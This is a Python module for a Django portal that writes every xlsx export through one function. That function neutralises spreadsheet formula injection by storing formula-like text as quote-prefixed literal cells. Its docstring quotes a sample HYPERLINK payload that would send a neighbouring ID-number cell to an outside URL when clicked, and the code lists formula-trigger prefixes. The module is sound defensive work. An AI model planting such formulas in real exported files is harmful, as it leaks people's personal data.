"""The one way the portal writes xlsx: every export (payroll, ranking, statistics, the admin's
django-import-export lists) goes through `workbook_bytes`.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be taken by
Excel or WPS for a formula (OWASP "CSV/formula injection": `=HYPERLINK("http://…?"&B2,"李明")`
beside a full ID number sends it away on a click). Such text is stored as a text cell with the
quote prefix set, so the sheet shows exactly what was typed and never evaluates it.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from io import BytesIO

from django.http import HttpResponse
from django.utils.functional import Promise
from import_export.formats.base_formats import XLSX
from openpyxl import Workbook

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def looks_like_formula(value) -> bool:
    """Text a spreadsheet program could read as a formula or a DDE command."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def write_rows(sheet, rows: Iterable[Sequence]) -> None:
    """Append rows to an openpyxl sheet, each formula-like text as a literal text cell."""
    row_number = sheet.max_row if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 0
    for values in rows:
        row_number += 1
        for column, value in enumerate(values, start=1):
            if isinstance(value, Promise):  # a lazily translated label: its text
                value = str(value)
            cell = sheet.cell(row=row_number, column=column)
            if looks_like_formula(value):
                cell.value = value
                cell.data_type = "s"
                cell.quotePrefix = True
            else:
                cell.value = value


def workbook_bytes(
    *,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    title: str = "Sheet1",
    number_formats: dict[int, str] | None = None,
) -> bytes:
    """An xlsx file of one sheet: the header row, then the rows, all through `write_rows`.

    `number_formats`: column index (1-based) -> Excel number format for the data rows.
    """
    book = Workbook()
    sheet = book.active
    sheet.title = _sheet_title(title)
    write_rows(sheet, [list(headers)])
    write_rows(sheet, rows)
    for column, fmt in (number_formats or {}).items():
        for (cell,) in sheet.iter_rows(min_row=2, min_col=column, max_col=column):
            cell.number_format = fmt
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(*, filename: str, **kwargs):
    """An HttpResponse downloading `workbook_bytes(**kwargs)` as `filename`."""
    response = HttpResponse(workbook_bytes(**kwargs), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _sheet_title(title: str) -> str:
    cleaned = "".join("-" if ch in "[]:*?/\\" else ch for ch in (title or "Sheet1"))
    return cleaned[:31] or "Sheet1"


class SafeXLSX(XLSX):
    """django-import-export's xlsx format, writing through `workbook_bytes` (EXPORT_FORMATS)."""

    def export_data(self, dataset, **kwargs):
        return workbook_bytes(
            headers=[str(h) for h in (dataset.headers or [])],
            rows=dataset,
            title=dataset.title or "导出",
        )
